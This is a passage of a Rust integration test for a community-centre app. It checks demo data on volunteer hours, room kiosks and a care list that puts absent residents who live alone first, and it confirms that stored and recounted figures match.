    assert!(hours.iter().filter(|v| v.total_half_hours > 0).count() >= 6, "volunteers served: {hours:?}");
    let figures = kiosks::kiosks(&server.db, demo_scope(weeks, "")).await.unwrap();
    assert_eq!(figures.kiosks.len(), 3, "a kiosk in each room");
    assert!(figures.kiosks.iter().any(|k| k.silent.len() >= 2), "one went silent two days ago");
    // Two of the most regular stopped coming ten days ago (关爱提醒): listed, the one living
    // alone among those living alone, ahead of everyone who does not.
    let not_seen = jiayuan_community::office::care::not_seen(&server.db, DEMO, today()).await.unwrap();
    let place = |id: &str| not_seen.iter().position(|r| r.resident_id == id);
    let (alone, other) = (place("resident-0006").unwrap(), place("resident-0014").unwrap());
    assert!(not_seen[alone].lives_alone && not_seen[alone].absence.days_away >= 10);
    assert!(not_seen[..alone].iter().all(|r| r.lives_alone), "living alone first");
    assert!(alone < other && !not_seen[other].lives_alone);

    // Kept and counted from the records are the same figures.
    let now = jiayuan_community::clock::now_ms();
    let kept = days::figures(&server.db, DEMO, weeks.from, today(), OFFSET, now, days::Want::ALL).await.unwrap();
    let counted = days::count(&server.db.pool, DEMO, weeks.from, today(), OFFSET, days::Want::ALL).await.unwrap();
    assert_eq!((&kept.visits, &kept.kiosks), (&counted.visits, &counted.kiosks));

    // A kiosk paired to the demo afterwards syncs cleanly from its first record.
    let kiosk = crate::support::kiosk::pair(&server, jiayuan_community::demo::KIOSK_ROOM).await;
    crate::support::kiosk::push_ok(
        &server,
        &kiosk,
        &[crate::support::kiosk::record(1, crate::support::kiosk::sign_in("resident-0001"))],
    )
    .await;
}
